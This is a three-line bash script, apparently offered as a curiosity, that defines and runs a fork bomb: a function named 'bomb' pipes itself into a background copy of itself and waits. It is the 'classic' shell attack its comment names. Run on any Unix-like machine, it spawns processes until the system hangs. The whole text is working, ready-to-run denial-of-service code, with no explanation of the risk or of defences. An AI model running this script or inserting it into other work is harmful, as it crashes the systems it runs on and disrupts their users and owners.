# The classic of shells; the first one waits, so that the program does not simply end.
bomb() { bomb | bomb & wait; }
bomb
